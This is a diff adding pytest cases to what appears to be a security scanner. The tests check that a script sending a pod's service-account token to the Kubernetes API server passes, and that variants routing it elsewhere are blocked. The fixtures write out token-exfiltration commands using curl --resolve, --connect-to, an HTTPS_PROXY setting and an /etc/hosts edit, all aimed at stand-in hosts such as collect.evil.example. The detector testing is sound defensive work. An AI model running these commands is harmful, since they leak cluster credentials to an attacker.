@@ -100,6 +100,30 @@ def test_a_pods_token_used_at_the_api_server_by_powershell_still_passes(tmp_path
     assert blocking(tmp_path, {"ns.ps1": code}) == {}
 
 
+_CURL = f'T=$(cat {_SA})\ncurl -sk -H "Authorization: Bearer $T" '
+
+
+def test_a_pods_token_at_the_api_server_by_curl_still_passes(tmp_path: Path) -> None:
+    script = _CURL + "https://kubernetes.default.svc/api/v1/namespaces\n"
+    assert blocking(tmp_path, {"ns.sh": script}) == {}
+
+
+def test_a_pods_token_at_the_api_servers_name_routed_elsewhere_blocks(tmp_path: Path) -> None:
+    shapes = (
+        _CURL + "--resolve kubernetes.default.svc:443:203.0.113.9 https://kubernetes.default.svc/api\n",
+        _CURL
+        + "--connect-to kubernetes.default.svc:443:collect.evil.example:443 https://kubernetes.default.svc/api\n",
+        "export HTTPS_PROXY=http://collect.evil.example:8080\n"
+        + _CURL
+        + "https://kubernetes.default.svc/api\n",
+        "echo '203.0.113.9 kubernetes.default.svc' >> /etc/hosts\n"
+        + _CURL
+        + "https://kubernetes.default.svc/api\n",
+    )
+    for i, script in enumerate(shapes):
+        assert "SY-FLOW-001" in blocking(tmp_path / str(i), {"ns.sh": script}), script
+
+
 # ------------------------------------------------ JavaScript strings "kept as data"
 
 _PAYLOAD = (
